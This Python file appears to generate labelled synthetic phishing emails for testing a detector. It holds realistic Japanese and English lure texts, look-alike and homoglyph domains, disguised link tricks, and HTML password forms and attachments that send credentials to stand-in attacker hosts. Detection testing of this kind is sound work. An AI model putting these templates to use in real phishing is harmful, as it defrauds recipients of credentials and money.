# SPDX-License-Identifier: Apache-2.0
"""Phishing mails, made up from seeds: every trick that mail/signs.c is to know, in words that are not taken from its table. Each family gives a
mail and the signs of which at least one is right for its trick."""
from phishing_mails import HOMES, ME, address, failed, mail, page, passed

BRANDS = {
    "Xserverアカウント": ("xserver.ne.jp", "xserver"), "Amazon.co.jp": ("amazon.co.jp", "amazon"), "楽天カード株式会社": ("rakuten-card.co.jp", "rakuten"),
    "三井住友カード": ("smbc-card.com", "smbc"), "ヤマト運輸": ("kuronekoyamato.co.jp", "kuroneko"), "PayPal": ("paypal.com", "paypal"),
    "Microsoft": ("microsoft.com", "microsoft"), "Netflix": ("netflix.com", "netflix"), "DHL Express": ("dhl.com", "dhl"), "NTTドコモ": ("docomo.ne.jp", "docomo"),
    "えきねっと": ("eki-net.com", "eki-net"), "PayPay": ("paypay.ne.jp", "paypay"), "Example Hosting": ("mihonhost.example.jp", "mihonhost"),
    "イオンカード": ("aeon.co.jp", "aeoncard"), "Apple サポート": ("apple.com", "appleid"), "New Zealand Post": ("nzpost.co.nz", "nzpost"),
    "国税庁": ("nta.go.jp", "e-tax"), "JCBカード": ("my.jcb.co.jp", "jcb"), "FedEx": ("fedex.com", "fedex"), "Google": ("accounts.google.com", "google"),
}
EVIL = ["k3jq-ln.example", "vbn8832.example", "ns2.wepoiu.example", "dev.old-bakery.example", "mta41.qqzz.test", "rtyu.test", "portal-77.test", "zmxo.example.net"]

TEXTS = [
    ("Important: your account", ["Dear Customer,", "We noticed something strange about your account and had to restrict some of its features.",
                                  "To keep using it, please check your details below. Otherwise it will be closed for good within 24 hours."]),
    ("Your account is on hold", ["Hello,", "There is a problem with your current billing information. Your service will be interrupted unless you act.",
                                  "Please update your payment details."]),
    ("【重要】アカウントの異常を検知しました", ["お客様各位", "お客様のアカウントに普段と異なる端末からのアクセスが確認されました。", "安全のため、一部の機能を制限しております。下記より本人確認をお願いいたします。"]),
    ("お支払い情報の更新が必要です", ["いつもご利用ありがとうございます。", "ご登録のお支払い方法に問題があり、会費のお引き落としができませんでした。", "24時間以内に更新されない場合、ご利用を停止させていただきます。"]),
    ("お荷物のお届けについて", ["申し訳ありませんが、お客様のお荷物をお届けすることができませんでした。", "以下より再配達をご依頼ください。"]),
    ("Your package is waiting", ["We tried to deliver your package today, but nobody was at home.", "Please choose a new date and pay the customs fee of 1.99."]),
    ("■重要■ お客様ご契約のアカウントにおける大量メール送信について",
     ["突然のご連絡になり恐縮ですが、お客様がご利用中のサーバーアカウントに設定されております上記のメールアカウントにおいて不審なSMTP接続が行われ、スパムと思われるメールが同メールアカウントより大量に配信されていることが確認されております。",
      "そのため、該当メールアカウントのパスワードを当サポートにて強制的に変更しております。", "サーバーパネルへとログインし、パスワードの再設定をお願いいたします。"]),
    ("ご利用確認のお願い", ["第三者によるご利用の可能性があるため、カードのご利用を一部制限させていただきました。", "ご回答をいただけない場合、制限が継続されます。"]),
    ("Password expiry notice", ["The password of your mailbox expires today.", "Use the button to keep the same password."]),
    ("Mailbox almost full", ["Your mailbox has used 98 % of its quota. New mail will not arrive any more.", "Get more space for free."]),
    ("【最終通知】未払い料金のお知らせ", ["お客様のご利用料金の未納がございます。本日中にお支払いの確認ができない場合、法的措置に移行いたします。"]),
    ("還付金のお知らせ", ["税金の還付手続きが完了していません。下記よりお手続きください。"]),
    ("新しいデバイスからのサインイン", ["東京以外の場所からサインインがありました。お心当たりのない場合は、すぐにパスワードを変更してください。"]),
    ("Unusual sign-in attempt", ["Someone just used your password to try to sign in from another country. Secure your account now."]),
    ("Refund of 312.40", ["After the last calculation you are eligible to receive a refund. Claim your refund below."]),
]
# Written after the table of words was done: 84 of 100 bore a right sign then, 90 once the other signs had been weighed anew. Words of theirs were
# taken in afterwards, so they prove no more than TEXTS now.
LATER = [
    ("Notice of suspended membership", ["Hi,", "we were not able to charge your card for the coming month, so your membership is paused.", "Enter another card to go on watching."]),
    ("Dein Konto", ["Dear member,", "for your safety we have blocked online access to your card. Please confirm that it is you."]),
    ("会員情報ご確認のお願い", ["平素よりご愛顧いただき厚く御礼申し上げます。", "お客様の会員資格に関して確認が必要な事項がございます。", "ご確認いただけない場合、会員サービスのご提供を見合わせることがございます。"]),
    ("カード利用のお知らせ", ["下記のご利用がありました。", "利用金額:89,800円", "このご利用に覚えがない場合は、至急下記よりお取り消しください。"]),
    ("【至急】メールサービス認証のお願い", ["お使いのメールアドレスは認証期限を過ぎています。", "本日中に認証されない場合、メールの送受信ができなくなります。"]),
    ("宅配便お届けのお知らせ", ["宛先に不備があり、お荷物を倉庫へ戻しました。", "ご住所をご確認のうえ、もう一度配達をお申し込みください。"]),
    ("Delivery problem #88213", ["Your shipment is stuck in our depot because the house number is missing.", "Complete your address and pay the small fee for a second attempt."]),
    ("Mail server notice", ["Seven messages could not reach your inbox because of a sync error.", "Recover them before they are deleted."]),
    ("税務署からのお知らせ", ["あなたの所得税について、これまで自主的に納付されるよう催促してきましたが、まだ納付されておりません。", "期限までに納付がない場合、財産を差し押さえます。"]),
    ("ポイントプレゼント", ["おめでとうございます。5,000ポイントが当たりました。", "お受け取りは本日までです。"]),
    ("セキュリティシステムのアップグレードについて", ["システムの更新に伴い、すべてのお客様にパスワードの再登録をお願いしております。", "更新されないアカウントは順次ご利用いただけなくなります。"]),
    ("Confirm your recent purchase", ["You bought a phone for 899.00. If you do not recognise this order, cancel it here within a day."]),
]
CALLS = ["Check now", "Sign in", "Verify", "再配達を依頼する", "ログインはこちら", "確認する", "お支払い方法を更新", "View details", "マイページ", "Continue"]


def sender_of(rng, name, domain):
    """Most make the address up, some break into somebody's, some forge the real one."""
    return rng.choice([(name, f"no-reply@{rng.choice(EVIL)}"), (name, f"info@{rng.choice(HOMES)}"), (name, f"support@{domain}")])


def results(rng, sender):
    domain = sender[1].split("@")[1]
    if rng.random() < 0.5:
        return []
    return failed(rng, domain) if any(domain == own for own, _ in BRANDS.values()) or rng.random() < 0.3 else passed(rng, domain)


def evil_url(rng, host=None):
    path = rng.choice(["", "login", "jp/signin.php", "index.html", "verify/?id=77", "wp-content/plugins/x/", "a", "account/update"])
    return f"{rng.choice(['http', 'https'])}://{host or rng.choice(EVIL)}/{path}"


def brand_name(rng):
    name, (domain, _) = rng.choice(list(BRANDS.items()))
    subject, text = rng.choice(TEXTS)
    sender = (name, f"no-reply@{rng.choice(EVIL + HOMES)}")
    return mail(rng, sender, subject, text, [(rng.choice(CALLS), evil_url(rng))], fields=results(rng, sender)), {"brand_not_in_domain"}


def brand_subject(rng):
    name, (domain, _) = rng.choice(list(BRANDS.items()))
    subject, text = rng.choice(TEXTS)
    sender = (rng.choice(["", "サポート", "Support", "Customer Service"]), f"x{rng.randint(1, 999)}@{rng.choice(EVIL)}")
    return (mail(rng, sender, f"【{name}】{subject}", text, [(rng.choice(CALLS), evil_url(rng))], fields=results(rng, sender)),
            {"brand_not_in_domain", "urgency_with_link"})


def part_of_name(rng):
    name, (domain, label) = rng.choice(list(BRANDS.items())[:12])
    host = rng.choice([f"www.{label}-vpsonc.example", f"{label}-login.example", f"secure-{label}.test", f"{label}.support-jp.example", f"my{label}.test", f"{label}-co-jp.{rng.choice(EVIL)}"])
    subject, text = rng.choice(TEXTS)
    sender = sender_of(rng, name, domain)
    return mail(rng, sender, subject, text, [(rng.choice(CALLS), evil_url(rng, host))], fields=results(rng, sender)), {"look_alike_host", "brand_not_in_domain", "authentication"}


def whole_name(rng):
    name, (domain, _) = rng.choice(list(BRANDS.items()))
    subject, text = rng.choice(TEXTS)
    sender = sender_of(rng, name, domain)
    host = rng.choice([f"{domain}.{rng.choice(EVIL)}", f"www.{domain}.{rng.choice(EVIL)}"])
    return mail(rng, sender, subject, text, [(rng.choice(CALLS), evil_url(rng, host))], fields=results(rng, sender)), {"look_alike_host"}


NEAR = ["amaz0n.example", "arnazon.test", "rnicrosoft.example", "micros0ft.test", "paypa1.example", "paypai.test", "xserverr.example", "xserv3r.test", "netfl1x.example", "docorno.test",
        "goog1e.example", "rakutan.test", "xsever.test", "amazom.example", "microsft.test", "softbnak.example", "netfliix.test", "fecebook.example", "rakuteen.test", "kuronek0.example"]


def near(rng):
    subject, text = rng.choice(TEXTS)
    sender = (rng.choice(["", "Support", "カスタマーセンター"]), f"no-reply@{rng.choice(EVIL)}")
    host = rng.choice(["", "www.", "login."]) + rng.choice(NEAR)
    return mail(rng, sender, subject, text, [(rng.choice(CALLS), evil_url(rng, host))], fields=results(rng, sender)), {"look_alike_host"}


FOREIGN = ["аmazon.example", "аррӏе.test", "pаypal.example", "xѕerver.test", "miсrosoft.example", "gооgle.test", "rаkuten.example", "netflіx.test", "dосomo.test", "xserνer.example"]


def foreign_letters(rng):
    subject, text = rng.choice(TEXTS)
    host = rng.choice(FOREIGN)
    if rng.random() < 0.5:
        host = host.encode("idna").decode()
    sender = ("", f"no-reply@{rng.choice(EVIL)}")
    return mail(rng, sender, subject, text, [(rng.choice(CALLS), evil_url(rng, host))], fields=results(rng, sender)), {"look_alike_host", "mixed_scripts"}


def user_in_link(rng):
    domain, _ = rng.choice(list(BRANDS.values()))
    subject, text = rng.choice(TEXTS)
    target = f"https://{rng.choice(['', 'www.'])}{domain}{rng.choice(['', '%2Flogin', ':443'])}@{rng.choice(EVIL)}/{rng.choice(['', 'login', 'a'])}"
    sender = ("", f"no-reply@{rng.choice(EVIL)}")
    return mail(rng, sender, subject, text, [(rng.choice(CALLS), target)], fields=results(rng, sender)), {"user_in_link"}


def link_text(rng):
    name, (domain, _) = rng.choice(list(BRANDS.items()))
    subject, text = rng.choice(TEXTS)
    shown = rng.choice([f"https://www.{domain}/", f"https://{domain}/login", f"www.{domain}", domain])
    sender = sender_of(rng, rng.choice([name, ""]), domain)
    return mail(rng, sender, subject, text, [(shown, evil_url(rng))], fields=results(rng, sender), html=True, both=False), {"link_text_mismatch"}


def link_text_unknown(rng):
    bank = rng.choice(["first-valley-bank.example", "minato-shinkin.example.jp", "web-mailer.example.org"])
    subject, text = rng.choice(TEXTS)
    sender = (rng.choice(["", "Service"]), f"service@{rng.choice([bank, rng.choice(EVIL)])}")
    fields = failed(rng, bank) if sender[1].endswith(bank) and rng.random() < 0.7 else []
    return (mail(rng, sender, subject, text, [(f"https://www.{bank}/", evil_url(rng))], fields=fields, html=True, both=False),
            {"link_text_mismatch", "urgency_with_link"})


def hurry(rng):
    subject, text = rng.choice(TEXTS)
    sender = rng.choice([("Mail Admin", ME), ("管理者", f"admin@{rng.choice(HOMES)}"), ("IT Helpdesk", f"help@{rng.choice(EVIL)}"), ("", f"{rng.choice(HOMES).split('.')[0]}@{rng.choice(HOMES)}")])
    target = rng.choice([evil_url(rng, None).rstrip("/") + rng.choice(["/login", "/webmail/", "/verify"]), f"https://{rng.choice(EVIL)}/x#{ME}",
                         f"https://{rng.choice(['kx77.web.app', 'zz-mail.weebly.com', 'a91.pages.dev', 'upd.duckdns.org'])}/", "https://tinyurl.com/2p8xyzab",
                         f"http://203.0.113.{rng.randint(1, 200)}/secure/"])
    return (mail(rng, sender, subject, text, [(rng.choice(CALLS), target)], fields=results(rng, sender)),
            {"urgency_with_link", "login_elsewhere", "hired_host", "address_link"})


def number_link(rng):
    subject, text = rng.choice(TEXTS)
    target = rng.choice(["http://3405803876/login", "http://0xcb007164/a", "http://203.0.113.77/~x/", "http://0313.0.0161.0144/", "http://[2001:db8::7]/login"])
    sender = ("", f"no-reply@{rng.choice(EVIL)}")
    return mail(rng, sender, subject, text, [(rng.choice(CALLS), target)], fields=results(rng, sender)), {"address_link"}


def form(rng):
    subject, text = rng.choice(TEXTS)
    body = page(text, [], rng).replace("</body>", f'<form method=post action="{evil_url(rng)}"><input name=u value="{ME}"><input type="password" name=p><input type=submit></form></body>')
    sender = (rng.choice(["Webmail", "メール管理"]), f"admin@{rng.choice(EVIL)}")
    return mail(rng, sender, subject, text, [], fields=results(rng, sender), raw_html=body), {"form_in_mail"}


def attached(rng):
    subject, text = rng.choice(TEXTS)
    content = f"<html><script>location='{evil_url(rng)}'</script><form action='{evil_url(rng)}'><input type=password></form></html>".encode()
    sender = (rng.choice(["Billing", "スキャナー", "Voice Mail"]), f"scan@{rng.choice(EVIL)}")
    return (mail(rng, sender, subject, text, [], fields=results(rng, sender), attachments=[(rng.choice(["Invoice.html", "請求書.htm", "voice.shtml"]), "text/html", content)]),
            {"attached_page"})


def address_in_name(rng):
    _, (domain, _) = rng.choice(list(BRANDS.items()))
    subject, text = rng.choice(TEXTS)
    sender = (f"support@{domain}", f"x{rng.randint(1, 99)}@{rng.choice(EVIL)}")
    return mail(rng, sender, subject, text, [(rng.choice(CALLS), evil_url(rng))], fields=results(rng, sender)), {"address_in_name", "brand_not_in_domain"}


def letters(rng):
    name = rng.choice(["Аmazon", "PаyPal", "Miсrosoft", "Аpple ID", "Netflіx", "Xѕerver"])
    subject, text = rng.choice(TEXTS)
    sender = (name, f"x@{rng.choice(EVIL)}")
    return mail(rng, sender, subject, text, [(rng.choice(CALLS), evil_url(rng))], fields=results(rng, sender)), {"mixed_letters"}


def forged(rng):
    name, (domain, _) = rng.choice(list(BRANDS.items()))
    subject, text = rng.choice(TEXTS)
    sender = (name, f"no-reply@{domain}")
    return (mail(rng, sender, subject, text, [(rng.choice(CALLS), evil_url(rng)), ("Help", f"https://www.{domain}/help")], fields=failed(rng, domain)),
            {"authentication", "urgency_with_link"})


def own_notice(rng):
    text = ["お客様がご利用中の対象メールアカウントにおいて不審なSMTP接続が行われ、スパムと思われるメールが大量に配信されていることが確認されております。",
            "これまでのパスワードは無効となり、対象メールアカウントでは現在メールの送受信が行えません。", "▼メールパスワード変更方法", "「サーバーパネル」へとログインしてください"]
    sender = (rng.choice(["サポート", ""]), f"support@{rng.choice(EVIL + HOMES)}")
    return (mail(rng, sender, rng.choice(["【重要】大量メール送信について", "メールアカウントについて"]), text, [(rng.choice(["サーバーパネル", "こちら"]), evil_url(rng))], fields=results(rng, sender)),
            {"notice_without_mark"})


FAMILIES = [brand_name, brand_subject, part_of_name, whole_name, near, foreign_letters, user_in_link, link_text, link_text_unknown, hurry, number_link, form,
            attached, address_in_name, letters, forged, own_notice]
